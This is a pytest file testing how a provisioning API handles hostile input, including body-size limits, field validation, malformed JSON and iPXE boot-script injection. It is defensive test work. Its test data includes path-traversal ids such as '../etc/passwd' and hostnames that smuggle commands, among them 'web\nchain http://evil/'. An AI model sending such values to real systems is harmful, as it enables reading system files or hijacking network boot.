"""Hostile input: every bound the API promises, and bodies no JSON parser should trust.

Whatever arrives, the answer is a 4xx JSON error naming what was wrong (413 for a body over
64 KiB, 422 for a bad field or body), never a 5xx, and nothing is written.
"""

import json

import pytest
from sqlalchemy import text
from workflowfiles import write_test_workflow

from provisioner.extensions import db

MAC = "52:54:00:1e:00:01"
NEW_MAC = "52:54:00:1e:00:02"
TABLES = ("nodes", "node_tags", "node_state_logs", "node_events")
MAX_BODY = 64 * 1024


@pytest.fixture
def rows(app):
    """The row count of every table, in a session of its own (what is committed)."""

    def count() -> dict[str, int]:
        with app.app_context():
            return {
                table: db.session.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()
                for table in TABLES
            }

    return count


@pytest.fixture
def node(client) -> dict:
    """An installing node with a tag, so any report or change could write something."""
    response = client.post("/api/v1/nodes", json={"mac_address": MAC, "tags": ["rack1"]})
    assert response.status_code == 201, response.json
    response = client.patch(
        f"/api/v1/nodes/{MAC}/state", json={"state": "installing", "force": True}
    )
    assert response.status_code == 200, response.json
    return response.json["data"]


@pytest.fixture
def unchanged(client, node, rows):
    """Call after the request: asserts no row was added and the node is as it was."""
    before_rows = rows()
    before_node = client.get(f"/api/v1/nodes/{MAC}").json["data"]

    def check() -> None:
        assert rows() == before_rows
        assert client.get(f"/api/v1/nodes/{MAC}").json["data"] == before_node

    return check


def assert_json_error(response, status: int, field: str | None = None) -> None:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.is_json
    assert response.json["success"] is False
    assert response.json["code"] == status
    if field is not None:
        assert field in response.json["errors"], response.json


def report_body(**fields) -> dict:
    return {"mac_address": MAC, "event": "heartbeat"} | fields


# -- body size -------------------------------------------------------------------------------


def padded(size: int) -> bytes:
    """A valid report body of exactly ``size`` bytes (an unknown key holds the padding)."""
    skeleton = json.dumps(report_body(padding="")).encode()
    body = json.dumps(report_body(padding="x" * (size - len(skeleton)))).encode()
    assert len(body) == size
    return body


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("post", "/api/v1/report"),
        ("post", "/api/v1/nodes"),
        ("patch", f"/api/v1/nodes/{MAC}"),
        ("post", f"/api/v1/nodes/{MAC}/tags"),
    ],
)
def test_body_over_64_kib_is_413_json(client, unchanged, method, path):
    response = getattr(client, method)(
        path, data=padded(MAX_BODY + 1), content_type="application/json"
    )

    assert_json_error(response, 413)
    unchanged()


def test_body_of_exactly_64_kib_is_accepted(client, node, rows):
    """The limit is 64 KiB inclusive: a report that size is read and recorded."""
    response = client.post(
        "/api/v1/report", data=padded(MAX_BODY), content_type="application/json"
    )

    assert response.status_code == 200, response.json
    assert rows()["node_events"] == 1


def test_huge_body_is_refused_without_reading_it(client, unchanged):
    """A 10 MiB body gets the same 413."""
    data = b'{"mac_address": "' + b"a" * (10 * 1024 * 1024) + b'"}'

    response = client.post("/api/v1/report", data=data, content_type="application/json")

    assert_json_error(response, 413)
    unchanged()


# -- field limits -----------------------------------------------------------------------------


def nested(depth: int) -> dict:
    """An object ``depth`` levels deep (``{"a": {"a": ... 1}}``)."""
    value: object = 1
    for _ in range(depth):
        value = {"a": value}
    return value  # type: ignore[return-value]


#: One refusal of each kind through HTTP; tests/unit/test_schemas.py has every case.
BAD_REPORT_FIELDS = {
    "message-4097": ({"message": "x" * 4097}, "message"),
    "metadata-depth-6": ({"event_metadata": nested(6)}, "event_metadata"),
    "hostname-newline": ({"hostname": "web\nset x"}, "hostname"),
}


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(("fields", "field"), BAD_REPORT_FIELDS.values(), ids=BAD_REPORT_FIELDS)
def test_report_field_over_its_limit_is_422_naming_it(client, unchanged, fields, field):
    response = client.post("/api/v1/report", json=report_body(**fields))

    assert_json_error(response, 422, field)
    unchanged()


GOOD_REPORT_FIELDS = {
    "message-4096": {"message": "x" * 4096},
    "metadata-depth-5": {"event_metadata": nested(5)},
    "metadata-just-under-16k": {"event_metadata": {"blob": "x" * (16 * 1024 - 20)}},
    "hostname-fqdn": {"hostname": "web-01.rack-2.example.com"},
    "hostname-label-63": {"hostname": "a" * 63},
    "hostname-digits": {"hostname": "1and1"},
}


@pytest.mark.parametrize("fields", GOOD_REPORT_FIELDS.values(), ids=GOOD_REPORT_FIELDS)
def test_report_field_at_its_limit_is_accepted(client, node, fields):
    response = client.post("/api/v1/report", json=report_body(**fields))

    assert response.status_code == 200, response.json


#: Through HTTP: one schema refusal per endpoint (tests/unit/test_schemas.py has every
#: case), and ``..``, which the schema lets through and the endpoint refuses as unknown.
BAD_NODE_FIELDS = {
    "tag-upper": ({"tags": ["Rack1"]}, "tags"),
    "workflow-dotdot-slash": ({"workflow_id": "../etc/passwd"}, "workflow_id"),
    "workflow-dotdot": ({"workflow_id": ".."}, "workflow_id"),
    "ip": ({"ip_address": "10.0.0.256"}, "ip_address"),
}


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(("fields", "field"), BAD_NODE_FIELDS.values(), ids=BAD_NODE_FIELDS)
def test_node_create_field_limits_are_422_naming_the_field(client, unchanged, fields, field):
    response = client.post("/api/v1/nodes", json={"mac_address": NEW_MAC} | fields)

    assert_json_error(response, 422, field)
    unchanged()


UPDATE_FIELDS = {key: value for key, value in BAD_NODE_FIELDS.items() if "tag" not in key}


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(("fields", "field"), UPDATE_FIELDS.values(), ids=UPDATE_FIELDS)
def test_node_update_field_limits_are_422_naming_the_field(client, unchanged, fields, field):
    response = client.patch(f"/api/v1/nodes/{MAC}", json=fields)

    assert_json_error(response, 422, field)
    unchanged()


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(
    "tags", [["Rack1"], ["ok", "ok"]], ids=["upper", "repeated"]
)  # every case: tests/unit/test_schemas.py
def test_add_tags_limits_are_422(client, unchanged, tags):
    response = client.post(f"/api/v1/nodes/{MAC}/tags", json={"tags": tags})

    assert_json_error(response, 422, "tags")
    unchanged()


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
def test_state_change_comment_over_4_kib_is_422(client, unchanged):
    response = client.patch(
        f"/api/v1/nodes/{MAC}/state", json={"state": "pending", "comment": "c" * 4097}
    )

    assert_json_error(response, 422, "comment")
    unchanged()


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(
    "workflow_id", ["..", ".", "...", "..%2F..%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd", "a%5Cb"]
)
def test_workflow_lookup_with_path_characters_is_404_json(client, workflow_id):
    """A workflow id in the URL can never name a file outside the workflows directory."""
    response = client.get(f"/api/v1/workflows/{workflow_id}")

    assert_json_error(response, 404)
    assert "root:" not in response.get_data(as_text=True)


# -- query integers ---------------------------------------------------------------------------

#: One bad value per endpoint through HTTP; tests/unit/test_schemas.py has every case.
BAD_QUERIES = [
    ("/api/v1/nodes", "limit", "1001"),
    (f"/api/v1/nodes/{MAC}/events", "event_type", "reboot"),
    ("/api/v1/events", "since", str(2**64)),
    ("/api/v1/nodes/stalled", "limit", "0"),
]


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize(("path", "name", "value"), BAD_QUERIES)
def test_out_of_range_query_values_are_422_naming_the_parameter(client, node, path, name, value):
    response = client.get(path, query_string={name: value})

    assert_json_error(response, 422, name)


# -- bodies a JSON parser should not trust ------------------------------------------------------

#: Through HTTP, a body each way it can fail: the parser, the content type and the schema;
#: tests/unit/test_schemas.py sends all 32 hostile bodies through the parser and schemas.
HOSTILE_BODIES = {
    "not-json": ("application/json", b'{"mac_address": "52:54:00:1e:00:01", '),
    "form": ("application/x-www-form-urlencoded", b"mac_address=52:54:00:1e:00:01"),
    "no-content-type": (None, b'{"mac_address": "52:54:00:1e:00:01"}'),
    "lone-surrogate": ("application/json", rb'{"hostname": "ok", "vendor": "\ud800"}'),
    "deeply-nested": ("application/json", b"[" * 30000 + b"]" * 30000),
    "array": ("application/json", b"[]"),
}

#: Where each hostile body is sent, and the valid fields it is merged into when it parses.
TARGETS = {
    "report": ("post", "/api/v1/report"),
    "create": ("post", "/api/v1/nodes"),
    "update": ("patch", f"/api/v1/nodes/{MAC}"),
    "state": ("patch", f"/api/v1/nodes/{MAC}/state"),
    "tags": ("post", f"/api/v1/nodes/{MAC}/tags"),
}


def as_target_body(target: str, data: bytes) -> bytes:
    """Merge the valid fields the target needs into a JSON-object body, leaving others as is."""
    required = {
        "report": {"mac_address": MAC, "event": "install_complete"},
        "create": {"mac_address": NEW_MAC},
        "update": {},
        "state": {"state": "pending"},
        "tags": {"tags": ["rack2"]},
    }[target]
    text = data.lstrip()
    if not text.startswith(b"{") or not required or text == b"{":
        return data
    prefix = json.dumps(required)[1:-1].encode()
    body = text[1:].lstrip()
    return b"{" + prefix + (b"" if body.startswith(b"}") else b", ") + body


@pytest.mark.parametrize("backend", ["sqlite"])  # refused before any query
@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize(("content_type", "data"), HOSTILE_BODIES.values(), ids=HOSTILE_BODIES)
def test_hostile_body_is_a_4xx_json_error_and_writes_nothing(
    client, unchanged, target, content_type, data
):
    method, path = TARGETS[target]
    body = as_target_body(target, data)
    headers = {"Content-Type": content_type} if content_type else {}

    response = client.open(path, method=method.upper(), data=body, headers=headers)

    assert 400 <= response.status_code < 500, (response.status_code, response.get_data()[:300])
    assert response.is_json, response.get_data()[:300]
    assert response.json["success"] is False
    unchanged()


def test_no_successful_response_ever_contains_a_non_standard_json_number(client, node):
    """A number that overflows to infinity is refused, or at least never served back."""
    posted = client.post(
        "/api/v1/report",
        data=b'{"mac_address": "%s", "event": "heartbeat", "event_metadata": {"x": 1e400}}'
        % MAC.encode(),
        content_type="application/json",
    )

    assert posted.status_code == 200 or 400 <= posted.status_code < 500, posted.get_data()
    for path in (f"/api/v1/nodes/{MAC}/events", "/api/v1/events"):
        served: list[str] = []
        json.loads(client.get(path).get_data(as_text=True), parse_constant=served.append)
        assert served == [], f"{path} served non-standard JSON numbers {served}"


def test_a_hostname_can_never_break_the_ipxe_script(client, workflows_dir):
    """Whatever hostname got through validation, the installer's kernel line stays one line."""
    write_test_workflow(
        workflows_dir,
        "mid-os",
        kernel_path="/vmlinuz",
        initrd_path="/initrd",
        cmdline="hostname=${hostname} console=ttyS0",
    )
    for hostname in ("web\n", "web\r", "web\nchain http://evil/", "web || shell"):
        mac = f"52:54:00:1e:01:{len(hostname):02x}"
        client.post("/api/v1/nodes", json={"mac_address": mac, "workflow_id": "mid-os"})
        client.patch(f"/api/v1/nodes/{mac}", json={"hostname": hostname})
        client.patch(f"/api/v1/nodes/{mac}/state", json={"state": "pending"})

        script = client.get(f"/api/v1/boot?mac={mac}").get_data(as_text=True)

        lines = script.splitlines()
        kernel = [line for line in lines if line.startswith("kernel ")]
        assert len(kernel) == 1 and kernel[0].endswith(" || goto failed"), script
        assert "chain http://evil/" not in script
        assert not any(line.strip() == "" for line in lines), script
